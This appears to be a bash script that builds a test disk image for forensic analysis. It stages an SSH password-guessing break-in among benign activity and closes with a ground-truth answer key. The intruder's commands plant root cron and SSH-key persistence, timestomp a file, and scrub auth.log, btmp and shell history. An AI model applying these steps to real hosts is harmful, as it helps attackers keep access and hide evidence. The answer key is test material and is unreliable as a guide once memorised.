#!/bin/bash
# A password is guessed, root is reached by sudo, cron and keys are left behind, auth.log is edited.
# Usage: ssh-guessed.sh OUTDIR
set -euo pipefail
. "$(dirname "$0")/common.sh"
begin "$1"
admin=198.51.100.23 bad=203.0.113.66 bad2=203.0.113.99
disk gpt 480
setup web1 Europe/Berlin
# The traditional format, as most servers still write it: no year, local time.
sed -i '1i $ActionFileDefaultTemplate RSYSLOG_TraditionalFileFormat' "$mnt/etc/rsyslog.conf"
account marta - sudo; account alice summer2024 sudo; account backup2 -
echo 'marta ALL=(ALL) NOPASSWD: ALL' >"$mnt/etc/sudoers.d/marta"; chmod 440 "$mnt/etc/sudoers.d/marta"
key marta marta@workstation; key_for marta marta; key bad kali@kali
printf '<html><h1>Orchard &amp; Co</h1></html>\n' >"$mnt/var/www/html/index.html"
echo '17 * * * * root test -d /var/backups && ls /var/backups >/dev/null' >"$mnt/etc/cron.d/backup-check"
network $admin $bad $bad2 203.0.113.12 203.0.113.40 198.51.100.77
boot

act visit visitor "" 198.51.100.77 "visits the site" -- get 198.51.100.77 -A 'Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0' http://192.0.2.10/
act ssh_login admin marta $admin "logs in by key and edits a file" -- typing ssh_key $admin marta marta -tt >/dev/null 2>&1 <<'S'
sudo sed -i s/Orchard/Orchards/ /var/www/html/index.html
sudo systemctl reload apache2
exit
S
act ssh_guess noise root 203.0.113.12 "guesses and fails" -- wrong 203.0.113.12 root toor
act ssh_guess noise oracle 203.0.113.12 "guesses and fails" -- wrong 203.0.113.12 oracle oracle
act ssh_guess noise test 203.0.113.40 "guesses and fails" -- wrong 203.0.113.40 test test
for p in root:123456 root:password admin:admin test:test ubuntu:ubuntu alice:alice alice:123456 marta:marta alice:password alice:qwerty alice:alice2024; do
	act ssh_guess intruder "${p%%:*}" $bad "guesses and fails" -- wrong $bad "${p%%:*}" "${p#*:}"
done
act ssh_login intruder alice $bad "guessed the password, looks around, becomes root, leaves cron and keys" -- typing ssh_pw $bad alice summer2024 -tt >/dev/null 2>&1 <<S
whoami
id
uname -a
w
cat /etc/passwd | tail -3
echo summer2024 | sudo -S -p '' id
mkdir -p /var/tmp/.cache-x
printf '#!/bin/sh\nsleep 1\n' > /var/tmp/.cache-x/upd
chmod +x /var/tmp/.cache-x/upd
echo summer2024 | sudo -S -p '' sh -c 'echo "*/5 * * * * root /var/tmp/.cache-x/upd >/dev/null 2>&1" > /etc/cron.d/php-sess'
echo summer2024 | sudo -S -p '' sh -c 'mkdir -p /root/.ssh; echo "$(cat "$work/$tag.bad.pub")" >> /root/.ssh/authorized_keys; chmod 600 /root/.ssh/authorized_keys'
mkdir -p .ssh; echo "$(cat "$work/$tag.bad.pub")" >> .ssh/authorized_keys
touch -d 2023-03-04T05:06:00 /var/tmp/.cache-x/upd
exit
S
sleep 1
act ssh_login intruder root $bad2 "comes back with the key" -- typing ssh_key $bad2 root bad -tt >/dev/null 2>&1 <<'S'
unset HISTFILE
sed -i '/203.0.113.66/d' /var/log/auth.log
: > /var/log/btmp
: > /root/.bash_history
exit
S
sleep 1
act ssh_login admin marta $admin "logs in by key and looks at the disk" -- typing ssh_key $admin marta marta -tt >/dev/null 2>&1 <<'S'
df -h
exit
S
act ssh_guess noise root 203.0.113.40 "guesses and fails" -- wrong 203.0.113.40 root 1234
act visit visitor "" 198.51.100.77 "visits the site" -- get 198.51.100.77 -A 'Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0' http://192.0.2.10/
sleep 1
down
thin
truth ssh-guessed Europe/Berlin "$(cat <<J
{"expect":{"status":"compromised","root":true,
"entry":[{"vector":"ssh-password-guessed","account":"alice","sources":["$bad"],"first_act":"guessed the password","tolerance_seconds":5}],
"persistence":[{"mechanism":"cron","path":"/etc/cron.d/php-sess","as":"root"},{"mechanism":"ssh-key","path":"/root/.ssh/authorized_keys","as":"root"},{"mechanism":"ssh-key","path":"/home/alice/.ssh/authorized_keys","as":"alice"}],
"altered":[{"path":"/var/log/auth.log","kind":"log-edited"},{"path":"/var/log/btmp","kind":"log-cut"},{"path":"/var/tmp/.cache-x/upd","kind":"timestomped"},{"path":"/root/.bash_history","kind":"history-wiped"}],
"impact":[]},
"must_not":{"accounts":["marta","backup2"],"addresses":["$admin","198.51.100.77","203.0.113.12","203.0.113.40"],"files":["/etc/cron.d/backup-check","/etc/sudoers.d/marta","/home/marta/.ssh/authorized_keys"]}}
J
)"
image ssh-guessed zst
